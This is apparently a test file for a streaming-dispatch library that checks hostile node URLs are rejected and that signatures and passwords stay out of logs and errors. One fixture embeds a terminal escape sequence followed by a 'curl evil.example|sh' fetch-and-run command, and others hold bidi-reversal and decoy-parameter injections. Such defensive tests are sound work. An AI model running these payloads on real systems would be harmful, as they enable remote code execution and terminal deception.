/**
 * What a hostile server or a crafted base URL could slip past the checks: node URLs that rewrite a terminal
 * (control, C1 and bidi characters) or name no real host, a Signature shown in a debug log, a password echoed in an
 * error. The library refuses the first, and shows none of the others.
 */
import { RtmpDispatch } from "@effect-zego/core"
import { NodeRtmpDispatch } from "@effect-zego/node"
import { afterAll, assert, describe, it } from "@effect/vitest"
import * as Context from "effect/Context"
import * as Effect from "effect/Effect"
import * as Layer from "effect/Layer"
import * as Redacted from "effect/Redacted"
import * as Schedule from "effect/Schedule"
import { makeCapture } from "./capture.js"
import { figures, held, observe, save } from "./figures.js"
import { query, serve } from "./loopbackServer.js"

const SECRET = Redacted.make("6d5c4b3a291807f6e5d4c3b2a1908f7e")
const capture = makeCapture()

afterAll(() => save("hostile-nodes"))

const nodeLayer = (baseUrl: string) =>
  NodeRtmpDispatch.layerOptions({
    appId: 99,
    serverSecret: SECRET,
    baseUrl,
    retry: Schedule.stop,
    rateLimit: false,
    timeout: "30 seconds"
  })

describe("hostile nodes and URLs", () => {
  it.live("a node URL with a control, C1 or bidi character, or a host that is no host, is a ResponseDecodeError", () =>
    Effect.gen(function*() {
      const hostile = [
        "rtmp://198.51.100.1:1935/live/s\u001b[2K\rcurl evil.example|sh",
        "rtmp://198.51.100.1:1935/live/\u009b31ms",
        "rtmp://198.51.100.1:1935/live/s\u202ehs.lave",
        "rtmp://198.51.100.1:1935/li\u2066ve/s",
        "rtmp://198.51.100.1:1935/live/s\u0007",
        "rtmp://[:::.:.]:1935/live/s",
        "rtmp://[1:2:3:4:5:6:7:8:9]/live/s",
        "rtmp://-bad-.example/live/s",
        "rtmp://a..b/live/s",
        "rtmp://1.2.3.999/live/s"
      ]
      const addresses = ["198.51.100.1:1935\u001b[1A", "[:::.:.]:1935", "1.2.3.999:1935", "host\u202e:1935"]
      const valid = ["rtmp://[2001:db8::1]:1935/live/s", "rtmp://node-1.example.com/live/s", "rtmp://10.0.0.1/a/b/s"]
      const baseUrl = yield* serve((req, res) => {
        const [kind, index] = (query(req).get("StreamId") ?? "").split("-")
        const node = kind === "url"
          ? hostile[Number(index)]
          : kind === "addr"
          ? addresses[Number(index)]
          : valid[Number(index)]
        res.writeHead(200, { "content-type": "application/json" })
          .end(JSON.stringify({ Code: 0, Message: "ok", RequestId: "r", Data: [node] }))
      })
      const dispatch = Context.get(yield* Layer.build(nodeLayer(baseUrl)), RtmpDispatch.RtmpDispatch)
      for (let i = 0; i < hostile.length; i++) {
        figures.faults++
        const result = yield* observe(dispatch.dispatch({ streamId: `url-${i}`, type: "push" }), 30_000)
        assert.strictEqual(result._tag, "Failure", JSON.stringify(hostile[i]))
        if (result._tag === "Failure") assert.strictEqual(result.error._tag, "ResponseDecodeError")
      }
      for (let i = 0; i < addresses.length; i++) {
        figures.faults++
        const result = yield* observe(dispatch.dispatchAddresses({ streamId: `addr-${i}`, type: "push" }), 30_000)
        assert.strictEqual(result._tag, "Failure", JSON.stringify(addresses[i]))
        if (result._tag === "Failure") assert.strictEqual(result.error._tag, "ResponseDecodeError")
      }
      for (let i = 0; i < valid.length; i++) {
        const result = yield* observe(dispatch.dispatch({ streamId: `ok-${i}`, type: "push" }), 30_000)
        assert.strictEqual(result._tag, "Success", valid[i])
      }
      figures.requests += hostile.length + addresses.length + valid.length
      held("node-url-unsafe")
    }).pipe(Effect.scoped))

  it.live("every Signature is hidden from logs and errors, whatever the base URL holds", () =>
    Effect.gen(function*() {
      const sent: Array<string> = []
      const baseUrl = yield* serve((req, res) => {
        sent.push(query(req).get("Signature") ?? "")
        // Half the calls fail in transport, so that their errors are searched too.
        if (sent.length % 2 === 0) return void req.socket.destroy()
        res.writeHead(200, { "content-type": "application/json" })
          .end(JSON.stringify({ Code: 1006, Message: "invalid", RequestId: "r" }))
      })
      const crafted = [
        `${baseUrl}/x&Signature=decoy`,
        `${baseUrl}/x?`.slice(0, -1) + "&Signature=",
        `${baseUrl}/a;Signature=b&Signature=c`,
        `${baseUrl}/Signature=`
      ]
      for (const url of crafted) {
        const dispatch = Context.get(yield* Layer.build(nodeLayer(url)), RtmpDispatch.RtmpDispatch)
        for (let i = 0; i < 2; i++) {
          const result = yield* observe(dispatch.dispatch({ streamId: "s", type: "pull" }), 30_000)
          if (result._tag === "Failure") capture.addError(result.error)
        }
      }
      figures.requests += sent.length
      assert.isAtLeast(sent.length, crafted.length * 2)
      assert.isTrue(capture.texts.some((text) => text.includes("ZEGOCLOUD request")), "the debug log was captured")
      for (const signature of sent) {
        assert.match(signature, /^[0-9a-f]{32}$/)
        for (const text of capture.texts) assert.notInclude(text, signature)
      }
      held("signature-redaction")
    }).pipe(Effect.scoped, Effect.provide(capture.layer)))

  it.live("a base URL error never echoes user:password@", () =>
    Effect.gen(function*() {
      const urls = [
        "https://user:hunter2pass@host:99999/",
        "https://user:hunter2pass@",
        "http://user:hunter2pass@198.51.100.1/",
        "https://user:hunter2pass@rtc-api.zego.im/",
        "ftp://user:hunter2pass@127.0.0.1/",
        "https://user:hunter2pass@[::1/"
      ]
      for (const baseUrl of urls) {
        figures.badInputs++
        const result = yield* observe(
          Effect.scoped(Layer.build(nodeLayer(baseUrl))),
          10_000
        )
        assert.strictEqual(result._tag, "Failure", baseUrl)
        if (result._tag !== "Failure") continue
        assert.strictEqual(result.error._tag, "InvalidRequestError")
        for (const text of [result.error.message, String(result.error), JSON.stringify(result.error)]) {
          assert.notInclude(text, "hunter2pass")
        }
      }
      held("base-url-credentials")
    }))
})
